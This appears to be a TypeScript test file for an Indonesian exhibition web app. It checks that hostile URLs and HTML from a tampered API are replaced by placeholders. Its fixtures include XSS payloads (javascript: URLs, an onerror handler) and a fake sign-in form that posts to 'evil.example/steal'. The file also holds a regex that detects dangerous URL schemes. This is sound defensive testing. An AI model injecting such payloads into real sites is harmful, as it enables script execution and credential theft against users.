// What a visitor sees when the platform sends hostile addresses and HTML: the real screens,
// over the real SDK and the local platform, with every URL field of every API answer replaced
// on the way (a compromised or malicious platform). Nothing hostile reaches the DOM; a neutral
// placeholder takes its place (src/security/safeUrl.ts, src/security/sanitizeHtml.ts).
import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { createActor } from 'xstate';
import { createPameranClient } from '@pameran/sdk';
import { giftClaimMachine } from '../../machines';
import GiftDialog from '../../src/shell/GiftDialog';
import { AppTheme } from '../../src/styles/AppTheme';
import { loginToken, usePlatform } from '../helpers/platform';
import { makeUser, renderApp } from './support/renderApp';

const platform = usePlatform();

const URL_FIELDS = new Set(['stream_url', 'external_url', 'website', 'logo_url', 'image_url', 'poster_url', 'banner_url', 'qr_code']);

/** A fetch that answers like the platform, with every URL field replaced by `hostile`. */
function tampering(hostile: string) {
  return async (request: Request): Promise<Response> => {
    const response = await fetch(request);
    if (!(response.headers.get('content-type') ?? '').includes('json')) return response;
    const body = JSON.parse(await response.text(), (key, value: unknown) => (URL_FIELDS.has(key) && typeof value === 'string' ? hostile : value));
    return new Response(JSON.stringify(body), { status: response.status, headers: response.headers });
  };
}

async function renderTampered(path: string, hostile: string) {
  const token = await loginToken(platform, 'BUDI2026');
  const user = await createPameranClient({ baseUrl: platform.url, getToken: () => token, fetch: tampering(hostile) }).users.me();
  const view = renderApp({ path, signedInAs: user, token, platform: { url: platform.url, fetch: tampering(hostile) }, statechartsOnPlatform: true });
  return view;
}

/** Every URL-bearing attribute in the document, with its value. */
function urlAttributes(): string[] {
  return [...document.querySelectorAll('[href], [src], [srcdoc], [action], [formaction], [data]')].flatMap((element) =>
    ['href', 'src', 'srcdoc', 'action', 'formaction', 'data'].filter((name) => element.hasAttribute(name)).map((name) => `${element.tagName} ${name}=${element.getAttribute(name)}`),
  );
}

/**
 * What each screen is sent: a script address in mixed case and another origin's. Every kind the
 * rule refuses (javascript:, data:, vbscript:, blob:, another origin, in any case) is the rule's
 * own test (tests/unit/safe-url.test.ts, safe-url-edges.test.ts); here each screen shows it
 * passes its fields through that rule and what it shows instead.
 */
const HOSTILE = ['JaVaScRiPt:window.__pwned=1', '//evil.example/x'];

function expectNothingHostile(hostile: string) {
  const found = urlAttributes().filter((attribute) => attribute.toLowerCase().includes(hostile.toLowerCase()) || /javascript:|vbscript:|data:text|blob:|evil\.example/i.test(attribute));
  expect(found).toEqual([]);
}

describe('hostile URLs from the platform', () => {
  it.each(HOSTILE)('the live stream %j is not loaded: no player, no link, a placeholder instead', async (hostile) => {
    await renderTampered('/live-stream/80', hostile);
    const stage = await screen.findByRole('article', { name: 'Tanya Jawab Suku Cadang Ekskavator' });
    expect(within(stage).getByText('Sedang tayang')).toBeInTheDocument();
    expect(within(stage).getByRole('status')).toHaveTextContent('Siaran ini tidak dapat ditampilkan di aplikasi.');
    expect(within(stage).queryByTitle(/^Siaran/)).not.toBeInTheDocument();
    expect(within(stage).queryByRole('link', { name: 'Buka siaran di tab baru' })).not.toBeInTheDocument();
    expectNothingHostile(hostile);
  });

  it('a genuine stream plays in a sandboxed frame with an allow list and a referrer policy', async () => {
    await renderTampered('/live-stream/80', 'https://siaran.contoh.id/tanya-jawab-ekskavator');
    const frame = await screen.findByTitle('Siaran Tanya Jawab Suku Cadang Ekskavator');
    expect(frame).toHaveAttribute('src', 'https://siaran.contoh.id/tanya-jawab-ekskavator');
    expect(frame).toHaveAttribute('sandbox', 'allow-scripts allow-same-origin allow-presentation');
    expect(frame).toHaveAttribute('allow', 'autoplay; fullscreen; picture-in-picture; encrypted-media');
    expect(frame).toHaveAttribute('referrerpolicy', 'strict-origin');
  });

  it.each(HOSTILE)('the home screen shows sessions elsewhere without a link, and blank pictures, for %j', async (hostile) => {
    await renderTampered('/home', hostile);
    const ongoing = await screen.findByRole('region', { name: 'Sedang berlangsung di platform lain' });
    expect(await within(ongoing).findByText('Tur Virtual Pabrik Pompa')).toBeInTheDocument();
    expect(within(ongoing).queryAllByRole('link')).toEqual([]);
    expect(within(ongoing).getAllByText('Tautan siaran tidak tersedia.').length).toBeGreaterThan(0);
    // A refused banner is no banner: no banner block at all.
    expect(screen.queryByRole('img', { name: /^Spanduk / })).not.toBeInTheDocument();
    expectNothingHostile(hostile);
  });

  it.each(HOSTILE)('an exhibitor’s website %j is not a link', async (hostile) => {
    const user = userEvent.setup();
    await renderTampered('/products', hostile);
    await user.click(await screen.findByRole('tab', { name: 'Peserta pameran' }));
    await user.click(await screen.findByRole('link', { name: /^PT Genset Andalan/ }));
    expect(await screen.findByRole('heading', { level: 2, name: 'PT Genset Andalan' })).toBeInTheDocument();
    expect(screen.queryByRole('link', { name: 'Situs web' })).not.toBeInTheDocument();
    expect(screen.getByText('Alamat situs web tidak tersedia.')).toBeInTheDocument();
    expectNothingHostile(hostile);
  });
});

describe('hostile profile data', () => {
  it('shows a placeholder instead of a QR code whose address is refused', async () => {
    renderApp({ path: '/profile', signedInAs: makeUser({ qr_code: 'javascript:alert(1)' }) });
    expect(await screen.findByText('Kode QR tidak dapat ditampilkan. Tunjukkan kode pengunjung di bawah ini.')).toBeInTheDocument();
    expect(screen.queryByRole('img', { name: 'Kode QR pengunjung' })).not.toBeInTheDocument();
    expectNothingHostile('javascript:');
  });

  it('shows a data: image QR code (an image cannot run script)', async () => {
    renderApp({ path: '/profile', signedInAs: makeUser({ qr_code: 'data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22/%3E' }) });
    expect(await screen.findByRole('img', { name: 'Kode QR pengunjung' })).toHaveAttribute('src', expect.stringMatching(/^data:image\/svg\+xml,/));
  });

  it('renders code_html without a fake sign-in form, styles or handlers', async () => {
    const codeHtml =
      '<p>Kode undangan: <strong>PMR-0042</strong></p>' +
      '<style>body{display:none}</style><p style="position:fixed;inset:0">Sesi berakhir</p>' +
      '<form action="https://evil.example/steal"><label>Kode <input name="code"></label><button>Masuk</button></form>' +
      '<img src=x onerror="window.__pwned=1"><a href="javascript:alert(1)">Info</a><iframe src="https://evil.example"></iframe>';
    renderApp({ path: '/profile', signedInAs: makeUser({ code_html: codeHtml }) });
    const badge = await screen.findByRole('region', { name: 'Tanda pengenal' });
    expect(within(badge).getByText(/^Kode undangan:/)).toHaveTextContent('Kode undangan: PMR-0042');
    expect(within(badge).queryByRole('textbox')).not.toBeInTheDocument();
    expect(within(badge).queryByRole('button', { name: 'Masuk' })).not.toBeInTheDocument();
    expect(badge.querySelector('style, form, input, iframe, [style], [onerror]')).toBeNull();
    expect(within(badge).getByText('Info').closest('a')).not.toHaveAttribute('href');
    expectNothingHostile('javascript:');
  });
});

describe('hostile prize images', () => {
  it('shows the gift icon instead of a refused picture', () => {
    const actor = createActor(giftClaimMachine, {
      input: { prizes: [{ id: 2, name: 'Topi Safety', image_url: 'javascript:alert(1)' }, { id: 3, name: 'Sarung Tangan', image_url: 'https://cdn.example/sarung.png' }] },
    }).start();
    render(
      <AppTheme>
        <GiftDialog actor={actor} />
      </AppTheme>,
    );
    const dialog = screen.getByRole('dialog', { name: 'Pilih Hadiah' });
    const hat = within(dialog).getByRole('button', { name: /Topi Safety/ });
    expect(hat.querySelector('img')).toBeNull();
    expect(hat.querySelector('svg')).not.toBeNull();
    expect(within(dialog).getByRole('button', { name: /Sarung Tangan/ }).querySelector('img')).toHaveAttribute('src', 'https://cdn.example/sarung.png');
    expectNothingHostile('javascript:');
  });
});
